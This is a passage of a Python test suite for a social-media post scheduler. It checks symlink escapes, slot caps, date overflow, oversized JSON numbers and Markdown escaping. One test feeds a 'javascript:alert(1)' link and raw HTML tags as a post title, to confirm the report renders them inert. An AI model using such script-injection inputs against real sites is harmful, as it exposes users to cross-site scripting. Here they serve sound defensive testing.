    Path("site/platform").symlink_to(elsewhere / "platform")
    plan.write_text(MINIMAL_PLAN, encoding="utf-8")
    with pytest.raises(OutputError, match="its folder is a link that leads out of site"):
        publish_feeds(load(plan), now=NOW, out_dir="site", save_state=True)
    assert (elsewhere / "platform" / "x.ics").read_text(encoding="utf-8") == "not ours"


def test_a_plan_built_in_code_is_held_to_the_slot_cap_too(write_files: WriteFiles) -> None:
    """Every minute of the day for years took minutes and gigabytes; the scheduler refuses."""

    plan = load(write_files({"plan.toml": MINIMAL_PLAN}))
    platform = attrs.evolve(
        plan.platforms[0],
        slots=(
            "FREQ=DAILY;BYHOUR=9;BYMINUTE="
            + ",".join(str(minute) for minute in range(60))
            + ";BYSECOND=0,30",
        ),
    )
    crowded = attrs.evolve(plan, platforms=(platform,))
    # validate() holds a code-built plan to the loader's rules, so the scheduler never
    # starts: the problem is located by key path, like a loaded plan's.
    with pytest.raises(PlanError) as caught:
        schedule(crowded, now=NOW)
    assert str(caught.value) == (
        "plan.toml: platforms.instagram.slots: the slots give up to 120 posting times a day; "
        "at most 96 are allowed (a platform needs a few slots a day; raise slots_per_day in "
        "[limits] if yours needs more)"
    )


def test_horizon_and_feed_window_never_overflow_for_plans_built_in_code(
    write_files: WriteFiles,
) -> None:
    """`now + horizon` and `[feeds] ahead = "9999999d"` overflowed; code can skip the loader."""

    plan = load(write_files({"plan.toml": MINIMAL_PLAN + ITEM}))
    huge = dt.timedelta(days=999_999_999)
    wide = attrs.evolve(
        plan,
        schedule_settings=attrs.evolve(plan.schedule_settings, horizon=huge),
        feed_settings=attrs.evolve(plan.feed_settings, ahead=huge, past=huge),
    )
    late = dt.datetime(2999, 12, 1, 8, 0, tzinfo=dt.UTC)
    # validate() holds a code-built plan to the loader's caps: a located error, no overflow.
    with pytest.raises(PlanError) as caught:
        schedule(wide, now=late)
    assert "schedule.horizon: the horizon is longer than 3660 days" in str(caught.value)
    # The feed window is clamped, never overflowed, even at the end of the calendar.
    window_only = attrs.evolve(
        plan, feed_settings=attrs.evolve(plan.feed_settings, ahead=huge, past=huge)
    )
    placed = schedule(window_only, now=late)
    assert [entry.item.id for entry in placed.all_entries] == ["a"]
    published = publish_feed(window_only, now=late, use_state=False)
    assert published.events == 2  # the post and its reply


def test_a_4300_digit_number_in_an_item_file(write_files: WriteFiles) -> None:
    """json.loads raised a bare ValueError for integers over 4,300 digits."""
    plan = write_files(
        {
            "plan.toml": 'include = ["a.jsonl"]\n' + MINIMAL_PLAN,
            "a.jsonl": '{"id": "a", "platform": "instagram", "title": "A", "priority": '
            + "9" * 5000
            + "}\n",
        }
    )
    assert messages(plan) == [
        "a.jsonl:1: invalid JSON: a number is too long (numbers in an item have at most a few "
        "digits)"
    ]


def test_the_stories_report_in_markdown_is_escaped_too(write_files: WriteFiles) -> None:
    """The stories report is another Markdown output: its titles are inert and one line."""
    text = MINIMAL_PLAN + (
        '\n[stories.s]\ntitle = "<b>Big</b>\\nsale"\nsteps = [{ platform = "instagram" }]\n'
        '[[items]]\nid = "a"\nplatform = "instagram"\nstory = "s"\n'
        'title = "[x](javascript:alert(1))"\n'
    )
    plan = load(write_files({"plan.toml": text}))
    report = render_stories(spirals(plan, now=NOW), plan=plan, fmt="markdown")
    assert "## &lt;b&gt;Big&lt;/b&gt; sale (s)" in report.split("\n")
    assert "javascript:alert(1))" not in report.replace("\\](javascript:alert(1))", "")
